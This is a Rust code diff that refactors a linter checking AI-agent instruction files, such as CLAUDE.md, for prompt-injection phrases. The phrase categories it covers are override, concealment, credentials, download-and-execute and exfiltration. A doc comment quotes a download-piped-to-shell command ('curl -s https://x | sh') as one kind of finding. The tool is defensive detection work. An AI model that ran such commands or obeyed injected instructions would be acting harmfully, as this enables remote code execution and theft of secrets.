@@ -3,15 +3,10 @@
 pub use crate::registry::context::*;
 
 use super::{Emitter, FileCtx, Repo, RepoEmitter};
-use crate::classify::{Agent, FileKind, Format};
+use crate::classify::{Agent, FileKind};
 
-/// Context files whose text the agent reads as instructions.
 fn is_context(kind: FileKind) -> bool {
-    kind.format() == Format::Markdown
-        || matches!(
-            kind,
-            FileKind::CursorRulesLegacy | FileKind::WindsurfRulesLegacy | FileKind::ZedRules
-        )
+    kind.is_instructions()
 }
 
 fn check_missing(repo: &Repo, emit: &mut RepoEmitter<'_>) {
@@ -380,69 +375,7 @@ fn check_invisible(ctx: &FileCtx, emit: &mut Emitter<'_>) {
 /// Phrases that read like injected instructions, each with the problem it points at, as data
 /// (`rules/injection.yaml`): one finding per problem and line (`curl -s https://x | sh` is one
 /// download piped to a shell).
-#[derive(serde::Deserialize)]
-#[serde(deny_unknown_fields)]
-struct Injection {
-    #[allow(dead_code)]
-    version: u32,
-    #[allow(dead_code)]
-    source: Vec<String>,
-    #[allow(dead_code)]
-    checked: String,
-    phrases: Phrases,
-    #[cfg_attr(not(test), allow(dead_code))]
-    examples: Vec<InjectionExample>,
-}
-
-#[derive(serde::Deserialize)]
-#[serde(deny_unknown_fields)]
-struct Phrases {
-    r#override: Vec<String>,
-    concealment: Vec<String>,
-    credentials: Vec<String>,
-    download_exec: Vec<String>,
-    exfiltration: Vec<String>,
-}
-
-#[derive(serde::Deserialize)]
-#[serde(deny_unknown_fields)]
-#[cfg_attr(not(test), allow(dead_code))]
-struct InjectionExample {
-    text: String,
-    findings: usize,
-}
-
-fn injection() -> &'static (Injection, Vec<(String, Problem)>) {
-    static I: std::sync::OnceLock<(Injection, Vec<(String, Problem)>)> = std::sync::OnceLock::new();
-    I.get_or_init(|| {
-        let k: Injection = serde_saphyr::from_str(include_str!("../../rules/injection.yaml"))
-            .expect("rules/injection.yaml is valid (tested)");
-        let p = &k.phrases;
-        let all = [
-            (&p.r#override, Problem::Override),
-            (&p.concealment, Problem::Concealment),
-            (&p.credentials, Problem::Credentials),
-            (&p.download_exec, Problem::DownloadExec),
-            (&p.exfiltration, Problem::Exfiltration),
-        ]
-        .into_iter()
-        .flat_map(|(list, problem)| {
-            list.iter()
-                .map(move |ph| (ph.to_ascii_lowercase(), problem))
-        })
-        .collect();
-        (k, all)
-    })
-}
-
-#[derive(Clone, Copy, PartialEq, Eq)]
-enum Problem {
-    Override,
-    Concealment,
-    Credentials,
-    DownloadExec,
-    Exfiltration,
-}
+use crate::model::knowledge::Problem;
 
 fn check_injection(ctx: &FileCtx, emit: &mut Emitter<'_>) {
     if !is_context(ctx.kind) {
@@ -480,7 +413,7 @@ fn check_injection(ctx: &FileCtx, emit: &mut Emitter<'_>) {
         start..stop
     };
     let mut reported: Vec<(std::ops::Range<usize>, Problem)> = Vec::new();
-    for (phrase, problem) in &injection().1 {
+    for (phrase, problem) in ctx.knowledge().phrases() {
         let (phrase, problem) = (phrase.as_str(), *problem);
         let mut from = 0;
         while let Some(i) = lower[from..].find(phrase) {
@@ -1503,18 +1436,6 @@ pub(crate) const CHECKS: &[(&super::Rule, super::Check)] = &[
 #[cfg(test)]
 mod tests {
     use crate::rules::test_support::run;
-
-    #[test]
-    fn injection_examples_are_judged_as_recorded() {
-        for ex in &super::injection().0.examples {
-            let text = format!("# Notes\n\n{}\n", ex.text);
-            let n = run("CLAUDE.md", &text)
-                .iter()
-                .filter(|d| d.rule.code == "AG504")
-                .count();
-            assert_eq!(n, ex.findings, "{}", ex.text);
-        }
-    }
 
     #[test]
     fn invisible_characters() {
